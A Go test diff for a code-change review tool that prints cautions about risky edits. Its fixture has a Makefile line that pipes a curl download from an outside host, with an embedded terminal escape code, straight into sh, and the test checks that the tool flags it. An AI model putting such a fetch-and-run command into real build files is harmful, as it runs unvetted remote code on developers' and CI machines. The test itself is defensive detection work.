@@ -6,6 +6,8 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/tenon-bot/tenon/bot/caution"
+	"github.com/tenon-bot/tenon/bot/record"
 	"github.com/tenon-bot/tenon/engine"
 	"github.com/tenon-bot/tenon/internal/terminal"
 )
@@ -64,12 +66,16 @@ func TestALongLineIsCut(t *testing.T) {
 
 func TestWhatDeservesALookIsPrinted(t *testing.T) {
 	t.Parallel()
-	out := page{}.render(applied{
+	d := applied{
 		results: []engine.Result{{Status: engine.Applied, Path: "Makefile", Line: 1}},
 		changed: []string{"Makefile", "a_test.py"},
 		before:  map[string][]byte{"a_test.py": []byte("def test_a():\n    check()\n")},
 		after:   map[string][]byte{"Makefile": []byte("all:\n\tcurl https://api.partner.io/\x1b[2J | sh\n")},
-	})
-	require.Contains(t, out, "caution: runs in CI or on people's machines: Makefile; deletes or skips a test: a_test.py; "+
-		"new host: api.partner.io in Makefile\n")
+	}
+	require.Contains(t, page{}.render(d), "caution: runs in CI or on people's machines: Makefile; "+
+		"deletes or skips a test: a_test.py; new host: api.partner.io in Makefile\n")
+	require.Equal(t, []record.Caution{{Kind: caution.Runs, Path: "Makefile", Line: 1},
+		{Kind: caution.DeletedTest, Path: "a_test.py"},
+		{Kind: caution.Host, Path: "Makefile", Line: 2, What: "api.partner.io"}}, applyJSONOf(d).Cautions)
+	require.NotNil(t, applyJSONOf(applied{}).Cautions, "lists are never null")
 }
